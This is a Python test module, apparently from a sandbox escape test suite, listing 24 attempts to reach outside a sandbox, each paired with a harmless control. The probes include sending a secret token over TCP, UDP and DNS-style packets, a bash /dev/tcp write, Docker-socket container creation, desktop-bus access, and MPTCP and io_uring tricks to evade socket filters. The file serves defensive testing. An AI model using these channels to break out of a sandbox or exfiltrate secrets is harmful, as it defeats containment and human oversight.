"""Talking to anything outside, in Python."""

from __future__ import annotations

from typing import Any

from tests.escapes.attempt import Attempt, Twin

PAIR = "a, b = socket.socketpair(); a.sendall(b'x'); assert b.recv(1) == b'x'; say('ok')"
DATAGRAM = """
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
a.send(b'x'); assert b.recv(9); say('ok')
"""
LOOP = """
import asyncio
async def main():
    a, b = socket.socketpair()
    reader, writer = await asyncio.open_connection(sock=a)
    _, other = await asyncio.open_connection(sock=b)
    other.write(b"line\\n"); assert await reader.readline() == b"line\\n"
    writer.close(); other.close()
asyncio.run(main()); say("ok")
"""
SENT = "s.sendall(T['TOKEN'].encode()); hold(0.1)"


def _talk(name: str, title: str, body: str, twin: str = PAIR, **more: Any) -> Attempt:
    return Attempt(name, title, "python", body, Twin(body=twin), **more)


SOCKETS = (
    _talk(
        "N01",
        "TCP to a server on loopback",
        f"s = socket.create_connection(('127.0.0.1', int(T['TCP'])), 2); {SENT}",
        LOOP,
    ),
    _talk(
        "N02",
        "TCP by IPv6",
        f"s = socket.create_connection(('::ffff:127.0.0.1', int(T['TCP'])), 2); {SENT}",
        LOOP,
    ),
    _talk(
        "N03",
        "TCP to this machine's own address",
        f"s = socket.create_connection((T['ADDRESS_OUT'], int(T['TCP'])), 2); {SENT}",
        LOOP,
    ),
    _talk(
        "N04",
        "UDP",
        "s = socket.socket(2, 2); s.sendto(T['TOKEN'].encode(), ('127.0.0.1', int(T['UDP'])))",
        DATAGRAM,
    ),
    _talk(
        "N05",
        "a question to a name server",
        """
          name = b"".join(bytes([len(p)]) + p for p in (T["TOKEN"].encode(), b"test")) + b"\\0"
          s = socket.socket(2, 2)
          s.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1),
                   ("127.0.0.1", int(T["UDP"])))
          """,
        "assert socket.getaddrinfo('127.0.0.1', 80, flags=socket.AI_NUMERICHOST); say('ok')",
    ),
    _talk(
        "N06",
        "TCP Fast Open, data without connect",
        "s = socket.socket()\n"
        "s.sendto(T['TOKEN'].encode(), 0x20000000, ('127.0.0.1', int(T['TCP'])))",
        LOOP,
    ),
    _talk(
        "N07",
        "MPTCP, which filters of TCP do not see",
        f"s = socket.socket(2, 1, 262); s.connect(('127.0.0.1', int(T['TCP']))); {SENT}",
        LOOP,
    ),
    _talk(
        "N08",
        "TCP by a child without Python",
        "subprocess.run(['/bin/bash', '-c', 'echo $T_TOKEN > /dev/tcp/127.0.0.1/$T_TCP'])",
        "assert subprocess.run(['/bin/bash', '-c', 'echo x > out; cat out'],"
        " capture_output=True).stdout == b'x\\n'; say('ok')",
    ),
    _talk(
        "N09", "a socket at a path outside", f"s = socket.socket(1); s.connect(T['UNIX']); {SENT}"
    ),
    _talk(
        "N10",
        "datagrams to a socket at a path",
        "s = socket.socket(1, 2); s.sendto(T['TOKEN'].encode(), T['UNIX_DATAGRAM'])",
        DATAGRAM,
    ),
    _talk(
        "N11",
        "an abstract socket",
        f"s = socket.socket(1); s.connect('\\0' + T['ABSTRACT']); {SENT}",
    ),
    _talk(
        "N12",
        "a server's socket in the workspace",
        f"s = socket.socket(1); s.connect('app.sock'); {SENT}",
    ),
    _talk(
        "N13",
        "the socket of docker",
        "s = socket.socket(1); s.connect(T['DOCKER'])\n"
        "s.sendall(b'POST /containers/create HTTP/1.0\\r\\n\\r\\n'); hold(0.1)",
    ),
    _talk(
        "N14",
        "the bus of the desktop",
        "s = socket.socket(1); s.connect('\\0' + T['BUS']); s.sendall(b'\\0AUTH EXTERNAL\\r\\n')\n"
        "hold(0.1)",
    ),
    _talk(
        "N15",
        "a socket outside by /proc/PID/root",
        f"s = socket.socket(1); s.connect('/proc/%s/root%s' % (T['VICTIM'], T['UNIX'])); {SENT}",
        victim=True,
    ),
    _talk(
        "N16",
        "ICMP by a raw socket",
        "s = socket.socket(2, 3, 1); s.settimeout(1)\nhold()",
        DATAGRAM,
        held=("^host:RAW$", False),
    ),
    _talk(
        "N17",
        "a packet socket, beneath IP",
        "s = socket.socket(17, 3, 0)\nhold()",
        DATAGRAM,
        held=("^host:PACKET", False),
    ),
    _talk(
        "N18",
        "netlink to the machine's network",
        "s = socket.socket(16, 3, 0); s.bind((0, 0))\nhold()",
        PAIR,
        held=("^host:NETLINK", False),
    ),
    _talk(
        "N19",
        "netlink to the machine's events",
        "s = socket.socket(16, 3, 15); s.bind((0, 1))\nhold()",
        PAIR,
        held=("^host:NETLINK", False),
    ),
    _talk(
        "N20",
        "vsock to the host of a virtual machine",
        "s = socket.socket(40, 1, 0)\nhold()",
        PAIR,
        held=("VSOCK", False),
    ),
    _talk(
        "N21",
        "a server on loopback, for others to use",
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); hold()",
        LOOP,
        held=("^host:TCP", False),
    ),
    _talk(
        "N22",
        "TLS keys over HTTP by urllib",
        """
          import urllib.request
          urllib.request.urlopen("http://127.0.0.1:%s/%s" % (T["TCP"], T["TOKEN"]), timeout=0.5)
          """,
        "import urllib.parse; assert urllib.parse.urlsplit('http://a/b').path == '/b'; say('ok')",
    ),
    _talk(
        "N23",
        "a descriptor asked for over a socket outside",
        "s = socket.socket(1); s.connect(T['UNIX'])\n"
        "socket.send_fds(s, [T['TOKEN'].encode()], [0])\nhold(0.1)",
        "a, b = socket.socketpair(); socket.send_fds(a, [b'x'], [0]); b.recv(1); say('ok')",
    ),
    _talk(
        "N24",
        "a connection by io_uring, beside the filter of sockets",
        """
          ring = sc(425, 4, ctypes.create_string_buffer(256)); hold()
          """,
        LOOP,
        held=("io_uring", False),
    ),
)
